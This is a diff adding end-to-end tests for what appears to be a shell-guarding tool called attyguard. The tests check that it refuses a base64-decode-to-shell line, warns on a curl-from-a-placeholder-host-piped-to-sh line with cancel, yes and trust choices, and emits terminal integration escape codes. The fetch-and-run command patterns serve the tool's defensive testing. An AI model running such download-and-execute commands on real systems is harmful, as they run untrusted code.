@@ -210,3 +210,79 @@ def test_background_job_output_while_idle(shell):
     t.wait_for(r"^from-background$")
     t.send_line("echo fine")
     t.wait_for(r"^fine\n(.*\n)*\[~\]\$$")
+
+
+BLOCKED = "echo aGVsbG8= | base64 -d | sh"  # decoded text run by a shell: a block rule
+WARNED = "curl -fsS http://example.invalid/i.sh | sh"  # download piped into a shell: warn
+
+
+def test_block_shows_refused_and_runs_nothing(shell):
+    t = shell()
+    t.send_line(BLOCKED)
+    t.wait_for(r"^REFUSED — .+\n\[~\]\$$")
+    screen = t.screen()
+    assert "hello" not in screen
+    t.send_line("echo still-here")
+    t.wait_for(r"^still-here$")
+
+
+def test_warn_cancel_puts_line_back_then_yes_runs(shell):
+    t = shell()
+    t.send_line(f"{WARNED}; echo ran-it")
+    t.wait_for(r"\[y\]es / \[t\]rust / cancel\?")
+    t.send_keys("n")
+    t.wait_for(r"^\[~\]\$ curl -fsS http://example\.invalid/i\.sh \| sh; echo ran-it$")
+    assert "\nran-it" not in t.screen()
+    t.send_keys("Enter")
+    t.wait_for(lambda screen: screen.count("[y]es / [t]rust / cancel?") == 2)
+    t.send_keys("y")
+    t.wait_for(r"^ran-it\n\[~\]\$$")
+    # the status bar counts both warnings
+    t.wait_for(r"⚠ 2")
+    t.send_keys("M-W")
+    t.wait_for(r"attyguard: 2 warning\(s\):\n  ⚠ cancelled: .*\n  ⚠ ran: ")
+
+
+def test_warn_trust_lands_in_store_and_is_not_asked_again(shell, attyguard_bin, ag_env):
+    from tests.e2e.harness import run
+
+    t = shell()
+    line = f"{WARNED}; echo trusted-run"
+    t.send_line(line)
+    t.wait_for(r"\[y\]es / \[t\]rust / cancel\?$")
+    t.send_keys("t")
+    t.wait_for(r"^trusted-run\n\[~\]\$$")
+    listed = run([attyguard_bin, "trust", "list", "--json"], env=ag_env)
+    assert b"trusted-run" in listed.stdout, listed
+    t.send_line(line)
+    t.wait_for(r"^trusted-run\n(.*\n)*trusted-run\n\[~\]\$$")
+    assert t.screen().count("[t]rust") == 1
+
+
+def test_continuation_classified_as_a_whole(shell):
+    t = shell()
+    t.send_line("echo aGVsbG8= | base64 -d | \\")
+    t.wait_for(r"^>$")
+    t.send_line("sh")
+    t.wait_for(r"^REFUSED — .+\n\[~\]\$$")
+    t.send_line("echo after-refused")
+    t.wait_for(r"^after-refused\n\[~\]\$$")
+
+
+def test_shell_integration_marks_reach_outer_terminal(attyguard_bin, ag_env):
+    import pexpect
+
+    child = pexpect.spawn(str(attyguard_bin), env=ag_env, dimensions=(24, 80), timeout=10,
+                          cwd=ag_env["HOME"])
+    try:
+        child.expect_exact("\x1b]133;A\x07")
+        child.expect(r"\[~\]\$")
+        child.send("cd /tmp\r")
+        child.expect_exact("\x1b]133;C\x07")
+        child.expect_exact("\x1b]133;D;0\x07")
+        child.expect_exact("\x1b]7;file://")
+        child.expect_exact("/tmp\x07")
+        child.send("\x04")
+        child.expect(pexpect.EOF)
+    finally:
+        child.close(force=True)
